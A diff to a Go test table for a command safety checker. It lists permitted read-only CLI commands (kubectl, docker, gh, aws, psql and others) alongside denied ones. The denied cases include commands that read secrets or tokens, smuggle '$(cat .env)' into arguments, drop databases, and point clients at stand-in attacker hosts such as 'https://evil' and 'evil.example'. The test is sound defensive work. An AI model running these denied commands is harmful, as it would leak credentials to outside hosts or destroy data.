@@ -23,13 +23,13 @@ var tableCases = []struct {
 		"kubectl config view --minify", "kubectl auth can-i get pods", "kubectl top pod"},
 		[]string{"kubectl exec -it api -- sh", "kubectl get secret db -o yaml", "kubectl get pods,secrets", "kubectl config view --raw",
 			"kubectl get pods $(cat .env)", "kubectl cp api:/x .", "kubectl port-forward api 80", "kubectl --insecure-skip-tls-verify get pods",
-			"kubectl get pods --log-file=x", "kubectl apply -f x.yaml", "kubectl debug api", "kubectl diff -f x.yaml", "kubectl get pods --frobnicate"}},
+			"kubectl get pods --log-file=x", "kubectl --server https://evil get pods", "kubectl get --raw=/api/v1/secrets", "kubectl apply -f x.yaml", "kubectl debug api", "kubectl diff -f x.yaml", "kubectl get pods --frobnicate"}},
 	{[]string{"docker logs --tail 100 api", "docker ps -a", "docker images", "docker inspect api", "docker compose ps", "podman ps"},
 		[]string{"docker exec api ls", "docker run alpine", "docker build .", "docker cp api:/x .", "docker -H ssh://h ps", "docker compose up",
 			"docker compose config -o x.yaml", "docker logs --frobnicate api", "podman exec x sh"}},
 	{[]string{"gh pr view 12", "gh pr list --state open", "gh api repos/o/r", "gh api -X GET repos/o/r", "gh run view 1 --log-failed", "gh auth status"},
 		[]string{"gh api -X POST repos/o/r", "gh api -f a=b repos/o/r", "gh api --input x.json repos/o/r", "gh api -X DELETE repos/o/r",
-			"gh pr view 12 --web", "gh pr merge 12", "gh auth token", "gh auth status -t", "gh run download 1", "gh api repos/$(cat .env)"}},
+			"gh pr view 12 --web", "gh pr merge 12", "gh auth token", "gh auth status -t", "gh run download 1", "gh api repos/$(cat .env)", "gh api --hostname evil.example user"}},
 	{[]string{"aws ec2 describe-instances", "aws --profile p --region r ec2 describe-instances", "aws s3 ls s3://b", "aws sts get-caller-identity",
 		"aws logs tail /x --follow", "aws iam list-users --output json"},
 		[]string{"aws s3 cp a s3://b", "aws s3 sync . s3://b", "aws s3api get-object --bucket b --key k out", "aws secretsmanager get-secret-value --secret-id s",
@@ -58,7 +58,8 @@ var tableCases = []struct {
 			"fd -x rm", "ls | xargs -I{} rm {}", "ls | xargs rm", "ls | xargs kubectl get pod", "tar xzf x.tgz", "tar -tf h:/x.tar",
 			"tar -tf x --to-command=sh", "unzip x.zip", "yq -i '.a=1' x.yaml", "yq 'load(\"s\")' x", "openssl x509 -in c -out d",
 			"openssl s_client -connect h:443", "sqlite3 -readonly db '.shell rm x'", "sqlite3 db 'DELETE FROM t'", "psql -c 'DROP TABLE t'",
-			"psql -f x.sql", "mysql -e 'DROP DATABASE d'"}},
+			"psql -f x.sql", "mysql -e 'DROP DATABASE d'", "psql -h evil -c '\\dt'", "mysql -h evil -e 'SHOW TABLES'",
+			"helm --kube-apiserver https://evil list"}},
 }
 
 func TestTableSafety(t *testing.T) {
